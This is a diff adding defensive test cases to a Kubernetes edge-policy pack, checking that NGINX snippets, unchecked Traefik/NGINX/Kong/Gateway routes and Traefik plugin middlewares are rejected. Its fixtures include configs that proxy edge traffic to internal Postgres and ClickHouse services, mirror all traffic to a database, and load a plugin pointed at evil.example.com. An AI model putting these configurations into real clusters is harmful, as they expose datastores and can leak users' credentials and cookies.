@@ -143,3 +143,61 @@ describe("edge-gateway-contract: Traefik middlewares and ingress-nginx settings 
         expect(await messages("edge-gateway-contract", [...prodStack(), ...fine])).toEqual([]);
     });
 });
+
+describe("ingress-no-snippets: NGINX Inc.'s controller (also class nginx) reads nginx.org/*-snippets and plural *-snippets keys", () => {
+    it("rejects nginx.org/server-snippets, nginx.org/location-snippets and a ConfigMap's location-snippets, http-snippets", async () => {
+        const ing = ingress({ annotations: { ...ingress().props.metadata.annotations,
+            "nginx.org/location-snippets": "proxy_pass http://postgres.ai-trading.svc:5432;", "nginx.org/server-snippets": "location /db { proxy_pass http://clickhouse.ai-trading.svc:8123; }" } });
+        const found = await messages("ingress-no-snippets", [ing, controller({ "location-snippets": "allow all;", "HTTP-Snippets": "server { listen 81; }" }, "nginx-config")]);
+        expect(found.map((m) => m.split(",")[0].split(":")[0])).toEqual([
+            "Ingress \"nginx-ingress\" sets the annotation nginx.org/location-snippets",
+            "Ingress \"nginx-ingress\" sets the annotation nginx.org/server-snippets",
+            "ConfigMap \"nginx-config\" sets http-snippets (raw nginx configuration for every host)",
+            "ConfigMap \"nginx-config\" sets location-snippets (raw nginx configuration for every host)",
+        ]);
+    });
+});
+
+describe("no-unchecked-routes: routers by other groups, versions and fields", () => {
+    const router = (type: string, name: string, spec: Record<string, any> = {}): TestResource => ({ type, name, props: { metadata: { name, namespace: NS }, spec } });
+    const tail = "routes traffic where no edge policy of this pack checks it (TLS, hosts, snippets, routes to datastores and monitoring); " +
+        "publish through a networking.k8s.io/v1 Ingress instead.";
+
+    it("rejects a TraefikService, NGINX Inc.'s VirtualServer and TransportServer, Gateway API's old networking.x-k8s.io group, Kong's TCPIngress", async () => {
+        expect(await messages("no-unchecked-routes", [
+            router("kubernetes:traefik.io/v1alpha1:TraefikService", "mirror", { mirroring: { name: "api-gateway", port: 3001, mirrors: [{ name: "postgres", port: 5432, percent: 100 }] } }),
+            router("kubernetes:k8s.nginx.org/v1:VirtualServer", "vs"),
+            router("kubernetes:k8s.nginx.org/v1:TransportServer", "ts"),
+            router("kubernetes:networking.x-k8s.io/v1alpha1:HTTPRoute", "old"),
+            router("kubernetes:configuration.konghq.com/v1beta1:TCPIngress", "tcp"),
+        ])).toEqual([
+            `TraefikService "mirror" (Traefik) ${tail}`, `VirtualServer "vs" (NGINX Inc.) ${tail}`, `TransportServer "ts" (NGINX Inc.) ${tail}`,
+            `HTTPRoute "old" (Gateway API) ${tail}`, `TCPIngress "tcp" (Kong) ${tail}`,
+        ]);
+    });
+
+    it("rejects an Ingress backend naming a resource, and a Traefik errors middleware whose service is a TraefikService", async () => {
+        const resourceBackend = edit(ingress(), (p) => {
+            p.spec.rules[0].http.paths.push({ path: "/x", pathType: "Prefix", backend: { resource: { apiGroup: "traefik.io", kind: "TraefikService", name: "mirror" } } });
+        });
+        const errors: TestResource = { type: "kubernetes:traefik.io/v1alpha1:Middleware", name: "errors",
+            props: { apiVersion: "traefik.io/v1alpha1", kind: "Middleware", metadata: { name: "errors", namespace: NS }, spec: { errors: { status: ["500-599"], query: "/", service: { name: "mirror", kind: "TraefikService" } } } } };
+        expect(await messages("no-unchecked-routes", [resourceBackend, errors])).toEqual([
+            "Ingress \"nginx-ingress\" routes rules[0].http.paths[1] to a TraefikService (resource backend) where no edge policy of this pack checks it " +
+            "(routes to datastores and monitoring); route to a Service.",
+            "Middleware \"errors\" routes errors.service to a TraefikService where no edge policy of this pack checks it (routes to datastores and monitoring); route to a Service.",
+        ]);
+        expect(await messages("no-unchecked-routes", prodStack())).toEqual([]);
+    });
+});
+
+describe("ingress-no-external-forwarding: a Traefik plugin middleware", () => {
+    it("rejects a plugin (code Traefik loads from outside, its settings read by no policy)", async () => {
+        const plugin: TestResource = { type: "kubernetes:traefik.containo.us/v1alpha1:Middleware", name: "rewrite",
+            props: { apiVersion: "traefik.containo.us/v1alpha1", kind: "Middleware", metadata: { name: "rewrite", namespace: NS }, spec: { plugin: { "traefik-plugin-mirror": { url: "https://evil.example.com" } } } } };
+        expect(await messages("ingress-no-external-forwarding", [plugin])).toEqual([
+            "Middleware \"rewrite\" runs the Traefik plugin traefik-plugin-mirror, code Traefik loads from outside the cluster whose settings no policy reads: " +
+            "it may send the requests routed through it, their Authorization header and cookies included, anywhere. Use Traefik's own middlewares, which this pack reads.",
+        ]);
+    });
+});
